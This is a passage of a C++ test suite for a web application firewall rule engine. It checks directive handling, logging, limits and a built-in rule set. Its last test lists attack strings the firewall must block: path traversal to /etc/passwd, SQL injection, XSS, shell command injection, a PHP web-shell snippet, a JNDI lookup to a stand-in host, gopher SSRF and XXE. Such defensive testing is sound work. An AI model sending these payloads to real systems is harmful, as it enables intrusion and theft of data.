    EXPECT_THAT(ids(type, "{\"a\":\"x\"}"), ElementsAre(1)) << type;
    EXPECT_THAT(ids(type, "{\"a\""), ElementsAre(3)) << type;
  }
  for (const std::string_view type :
       {"text/xml", "application/xml;charset=utf-8", "application/soap+xml"}) {
    EXPECT_THAT(ids(type, "<a>x</a>"), ElementsAre(2)) << type;
  }
  EXPECT_THAT(ids("text/plain", "{\"a\":\"x\"}"), IsEmpty());
  EXPECT_THAT(ids("application/jsonx", "{\"a\":\"x\"}"), IsEmpty());
  // A rule that chooses one of them is the only one that does.
  constexpr std::string_view kJson =
      "SecRule REQUEST_METHOD \"@streq PUT\" \"id:9,phase:1,ctl:requestBodyProcessor=JSON\"";
  EXPECT_THAT(ids("application/json", "{\"a\":\"x\"}", kJson), IsEmpty());
  EXPECT_THAT(ids("text/xml", "<a>x</a>", kJson), ElementsAre(2));
}

TEST(Control, BodyAccessCanBeTakenAway) {
  constexpr std::string_view kRules =
      "SecRule REQUEST_HEADERS:X \"@streq 1\" \"id:1,phase:1,ctl:requestBodyAccess=Off\"\n"
      "SecRule ARGS:a \"@streq b\" \"id:2,phase:2\"";
  TestRequest request = Form("a=b");
  EXPECT_THAT(Inspected(kRules, request).ids(), ElementsAre(2));
  request.fields.emplace_back("X", "1");
  EXPECT_THAT(Inspected(kRules, request).ids(), ElementsAre(1));
}

TEST(Control, WithoutBodyAccessPhase2StillRuns) {
  EXPECT_THAT(Inspected("SecRequestBodyAccess Off\n"
                        "SecRule ARGS:a \"@streq b\" \"id:1,phase:2\"\n"
                        "SecAction \"id:2,phase:2\"",
                        Form("a=b"))
                  .ids(),
              ElementsAre(2));
}

TEST(Exclusions, DirectivesRemoveRules) {
  constexpr std::string_view kRules =
      "SecAction \"id:1,phase:1,tag:a\"\n"
      "SecAction \"id:2,phase:1,tag:b\"\n"
      "SecAction \"id:3,phase:1,msg:'c'\"\n"
      "SecAction \"id:4,phase:1\"\n"
      "SecAction \"id:5,phase:1\"\n";
  EXPECT_THAT(Inspected(absl::StrCat(kRules, "SecRuleRemoveById 1 4-5")).ids(), ElementsAre(2, 3));
  EXPECT_THAT(Inspected(absl::StrCat("SecRuleRemoveByTag b\n", kRules)).ids(),
              ElementsAre(1, 3, 4, 5));
  EXPECT_THAT(Inspected(absl::StrCat(kRules, "SecRuleRemoveByMsg c")).ids(),
              ElementsAre(1, 2, 4, 5));
}

TEST(Exclusions, DirectivesUpdateTargets) {
  constexpr std::string_view kRules =
      "SecRule ARGS \"@streq x\" \"id:1,phase:1,tag:t\"\n"
      "SecRule ARGS \"@streq x\" \"id:2,phase:1,msg:'m'\"\n";
  EXPECT_THAT(
      Inspected(absl::StrCat(kRules, "SecRuleUpdateTargetById 1 !ARGS:a"), Get("/?a=x")).ids(),
      ElementsAre(2));
  EXPECT_THAT(
      Inspected(absl::StrCat(kRules, "SecRuleUpdateTargetByTag t !ARGS:a"), Get("/?a=x")).ids(),
      ElementsAre(2));
  EXPECT_THAT(
      Inspected(absl::StrCat(kRules, "SecRuleUpdateTargetByMsg m !ARGS:a"), Get("/?a=x")).ids(),
      ElementsAre(1));
  EXPECT_THAT(
      Inspected(absl::StrCat(kRules, "SecRuleUpdateTargetById 2 ARGS_NAMES"), Get("/?x=1")).ids(),
      ElementsAre(2));
}

TEST(Exclusions, DirectivesUpdateActions) {
  const Inspected run(
      "SecAction \"id:1,phase:1,deny,status:403,msg:'old'\"\n"
      "SecRuleUpdateActionById 1 \"pass,msg:'new',setvar:tx.a=1\"\n"
      "SecRule TX:a \"@eq 1\" \"id:2,phase:1,deny\"\n"
      "SecRuleUpdateActionById 2 \"status:404\"");
  EXPECT_EQ(run.message(1), "new");
  EXPECT_EQ(run.decision().rule_id, 2);
  EXPECT_EQ(run.decision().status, 404);
}

// --- Logging

TEST(Logging, MessagesDataAndWhatMatched) {
  const Inspected run(
      "SecRule ARGS \"@rx sel(ec)t\" \"id:1,phase:1,capture,severity:CRITICAL,"
      "msg:'found %{TX.1}',logdata:'%{MATCHED_VAR_NAME}: %{MATCHED_VAR}'\"",
      Get("/?q=a+select+b"));
  const RuleMatch& match = run.match(1);
  EXPECT_EQ(match.message, "found ec");
  EXPECT_EQ(match.data, "ARGS:q: a select b");
  EXPECT_EQ(match.variable, "ARGS:q");
  EXPECT_EQ(match.matched, "select");
  EXPECT_EQ(match.severity, 2);
  EXPECT_EQ(match.where->file, "test.conf");
  EXPECT_EQ(match.where->line, 1);
  EXPECT_FALSE(match.disruptive);
  EXPECT_TRUE(match.logged);
}

TEST(Logging, TheLastOfItsLogActionsCounts) {
  const Inspected run(
      "SecDefaultAction \"phase:1,nolog,pass\"\n"
      "SecAction \"id:1,phase:1\"\n"
      "SecAction \"id:2,phase:1,log\"\n"
      "SecAction \"id:3,phase:1,log,noauditlog\"\n"
      "SecAction \"id:4,phase:1,nolog,auditlog\"");
  EXPECT_FALSE(run.match(1).logged);
  EXPECT_TRUE(run.match(2).logged);
  EXPECT_FALSE(run.match(3).logged);
  EXPECT_TRUE(run.match(4).logged);
}

TEST(Logging, LongTextsAreCut) {
  const Inspected run("SecRule ARGS:a \"@rx .\" \"id:1,phase:1,logdata:'<%{MATCHED_VAR}>'\"",
                      Get("/?a=" + std::string(100'000, 'x')));
  EXPECT_EQ(run.match(1).data.size(), 2048);
}

// --- Limits

TEST(Limits, ABodyOverItsLimitIsRefusedOrCut) {
  constexpr std::string_view kRules = "SecRequestBodyLimit 6\nSecAction \"id:1,phase:2\"\n";
  EXPECT_FALSE(Inspected(kRules, Form("a=1234")).denied());
  EXPECT_TRUE(Inspected(kRules, Form("a=12345")).denied());
  const Inspected cut(absl::StrCat(kRules,
                                   "SecRequestBodyLimitAction ProcessPartial\n"
                                   "SecRule INBOUND_DATA_ERROR \"@eq 1\" \"id:2,phase:2\"\n"
                                   "SecRule ARGS:a \"@streq 1234\" \"id:3,phase:2\""),
                      Form("a=12345"));
  EXPECT_THAT(cut.ids(), ElementsAre(1, 2, 3));
}

TEST(Limits, TooManyArgumentsAreLeftOutAndTold) {
  Inspected run(
      "SecArgumentsLimit 2\n"
      "SecRule &ARGS \"@eq 2\" \"id:1,phase:2\"",
      Get("/?a=1&b=2&c=3"));
  EXPECT_THAT(run.ids(), ElementsAre(1));
  EXPECT_TRUE(run->limits_exceeded());
}

TEST(Limits, AnExpressionThatGivesUpIsTold) {
  Inspected run(
      "SecRule ARGS:a \"@rx ^(a+)+$\" \"id:1,phase:1\"\n"
      "SecRule MSC_PCRE_LIMITS_EXCEEDED \"@eq 1\" \"id:2,phase:1\"",
      Get("/?a=" + std::string(5000, 'a') + "!"));
  EXPECT_THAT(run.ids(), ElementsAre(2));
  EXPECT_TRUE(run->limits_exceeded());
}

TEST(Limits, ABodyOverItsLimitIsStillInspectedIfNothingIsDecided) {
  const Inspected run("SecRequestBodyLimit 6\nSecRule ARGS:a \"@streq 1234\" \"id:1,phase:2\"",
                      Form("a=12345"), EngineMode::kDetectionOnly);
  EXPECT_THAT(run.ids(), ElementsAre(1));
  EXPECT_TRUE(run.would_be_denied());
}

TEST(Limits, MemoryOfTextsIsLimitedAndTold) {
  std::string body;
  for (int i = 0; i < 1000; ++i) absl::StrAppend(&body, i == 0 ? "" : "&", i, "=", i, "0123456789");
  constexpr std::string_view kRule =
      "SecRule ARGS \"@rx .\" \"phase:2,setvar:tx.all=x%{REQUEST_BODY},id:";
  Inspected run(absl::StrCat(kRule, "1\"\n", kRule, "2\"\nSecAction \"id:3,phase:2,deny\""),
                Form(body));
  EXPECT_THAT(run.ids(), ElementsAre(1, 2));
  EXPECT_TRUE(run->limits_exceeded());
  EXPECT_FALSE(run.denied());
}

TEST(Limits, NamesOfWhatMatchedAreCut) {
  const Inspected run("SecRule ARGS \"@rx .\" \"id:1,phase:1\"",
                      Get(absl::StrCat("/?", std::string(5000, 'n'), "=1")));
  EXPECT_EQ(run.match(1).variable.size(), std::string_view("ARGS:").size() + 1024);
}

TEST(Limits, TheFullRequestIsCopiedOnceHoweverOftenItIsAskedFor) {
  std::string body(100'000, 'x');
  for (int i = 0; i < 900; ++i) absl::StrAppend(&body, "&", i, "=1");
  Inspected run(
      "SecRule ARGS \"@rx .\" \"id:1,phase:2,setvar:tx.all=%{FULL_REQUEST}\"\n"
      "SecRule TX:all \"@contains &899=1\" \"id:2,phase:2\"",
      Form(body));
  EXPECT_THAT(run.ids(), ElementsAre(1, 2));
  EXPECT_FALSE(run->limits_exceeded());
}

TEST(Limits, MemoryOfALargeRequestIsGivenBackAtItsEnd) {
  const auto rules =
      Compile("SecRule ARGS \"@rx .\" \"id:1,phase:2,setvar:tx.all=x%{REQUEST_BODY}\"");
  std::string body;
  for (int i = 0; i < 900; ++i) absl::StrAppend(&body, i == 0 ? "" : "&", i, "=", i, "0123456789");
  TestRequest request = Form(body);
  Scratch scratch;
  Transaction transaction;
  const auto allocated = [] {
    const auto info = mallinfo2();
    return info.uordblks + info.hblkhd;
  };
  const size_t before = allocated();
  transaction.Begin(rules, EngineMode::kOn);
  transaction.InspectRequest(request.View(), scratch);
  transaction.End();
  EXPECT_LT(allocated(), before + (size_t{2} << 20));
  EXPECT_THAT(transaction.matches(), IsEmpty());
}

// --- The deadline

constexpr int64_t kLongAgo = 1;

TEST(TheDeadline, EndsAllPhasesButThatOfLogging) {
  TestRequest request = Form("a=1");
  Scratch scratch;
  Transaction transaction;
  transaction.Begin(Compile("SecRequestBodyLimit 2\n"
                            "SecRule ARGS:a \"@streq 1\" \"id:1,phase:2,deny\"\n"
                            "SecRule ARGS:a \"@streq 1\" \"id:2,phase:5\"\n"
                            "SecRule REQUEST_METHOD \"!@streq GET\" \"id:3,phase:5,t:lowercase\""),
                    EngineMode::kOn);
  transaction.SetDeadline(kLongAgo);
  transaction.InspectRequest(request.View(), scratch);
  // Not even by the limit of the body.
  EXPECT_EQ(transaction.decision().kind, Decision::Kind::kPass);
  EXPECT_TRUE(transaction.out_of_time());
  transaction.InspectEnd(scratch);
  ASSERT_EQ(transaction.matches().size(), 1);
  EXPECT_EQ(transaction.matches()[0].rule_id, 3);
  EXPECT_TRUE(transaction.out_of_time());
}

TEST(Operators, FindWhatBeginsWithNul) {
  constexpr std::string_view kRules =
      "SecRule ARGS \"@rx \\x00abcdef\" \"id:1,phase:1\"\n"
      "SecRule ARGS \"@pm |00|ghijkl mnopqr\" \"id:2,phase:1\"";
  EXPECT_THAT(Inspected(kRules, Get("/?a=x%00abcdef")).ids(), ElementsAre(1));
  EXPECT_THAT(Inspected(kRules, Get("/?a=%00ghijkl")).ids(), ElementsAre(2));
  EXPECT_THAT(Inspected(kRules, Get("/?a=mnopqr")).ids(), ElementsAre(2));
  EXPECT_THAT(Inspected(kRules, Get("/?a=abcdef")).ids(), IsEmpty());
}

// --- The built-in set

TEST(Builtin, LetsBenignRequestsPass) {
  auto rules = RuleSet::Builtin();
  ASSERT_TRUE(rules.ok()) << rules.status();
  Scratch scratch;
  Transaction transaction;
  for (TestRequest request :
       {Get("/"), Get("/search?q=running+shoes&page=2"), Get("/a/b.html?x=1#y"),
        Form("name=O'Neill&text=Please+select+a+size+from+the+list;+thanks!&price=1,000.50"),
        Form("comment=I+like+cats+%26+dogs+(really)&url=https://example.com/a?b=c"),
        TestRequest().SetBody("application/json",
                              "{\"name\":\"a <b> c\",\"list\":[1,2,{\"k\":null}]}"),
        TestRequest().SetBody("text/xml", "<a b='c'>text &amp; more</a>")}) {
    transaction.Begin(*rules, EngineMode::kOn);
    EXPECT_EQ(transaction.InspectRequest(request.View(), scratch).kind, Decision::Kind::kPass)
        << request.target << " " << request.body << " by rule " << transaction.decision().rule_id;
  }
}

TEST(Builtin, DeniesPlainAttacks) {
  auto rules = RuleSet::Builtin();
  ASSERT_TRUE(rules.ok()) << rules.status();
  Scratch scratch;
  Transaction transaction;
  const std::vector<std::pair<TestRequest, int64_t>> cases = {
      {Get("/?a=%00"), 111},
      {Get("/../../etc/passwd"), 120},
      {Get("/?f=..%2f..%2fetc/shadow"), 120},
      {Get("/?f=/etc/passwd"), 121},
      {Get("/.git/config"), 122},
      {Get("/?u=gopher://127.0.0.1:6379/_x"), 123},
      {Get("/?id=1'+or+'1'='1"), 130},
      {Get("/?id=1+union+all+select+password+from+users"), 130},
      {Get("/?q=<script>alert(1)</script>"), 140},
      {Get("/?q=%22%20onmouseover=alert(1)%20x=%22"), 140},
      {Get("/?host=a;cat+/tmp/x"), 150},
      {Get("/?x=$(whoami)"), 150},
      {Form("x=<?php+system($_GET['c']);"), 152},
      {Get("/?x=${jndi:ldap://a.example/b}"), 154},
      {Get("/?class.module.classLoader.x=1"), 155},
      {Get("/?__proto__[a]=b"), 158},
      {TestRequest().SetBody("application/json", "{\"a\":"), 102},
      {TestRequest().SetBody("application/json", "{\"a\":[\"1' or '1'='1\"]}"), 130},
      {TestRequest().SetBody("application/vnd.a+json", "{\"a\":\"<script>alert(1)</script>\"}"),
       140},
      {TestRequest().SetBody("application/soap+xml", "<a>;cat /tmp/x</a>"), 150},
      {TestRequest().SetBody("text/xml",
                             "<!DOCTYPE a [<!ENTITY b SYSTEM \"file:///x\">]><a>&b;</a>"),
       159},
  };
  for (auto [request, id] : cases) {
    transaction.Begin(*rules, EngineMode::kOn);
    transaction.InspectRequest(request.View(), scratch);
    EXPECT_EQ(transaction.decision().kind, Decision::Kind::kDeny)
        << request.target << " " << request.body;
    EXPECT_EQ(transaction.decision().rule_id, id) << request.target << " " << request.body;
  }
}

}  // namespace
}  // namespace edge::waf
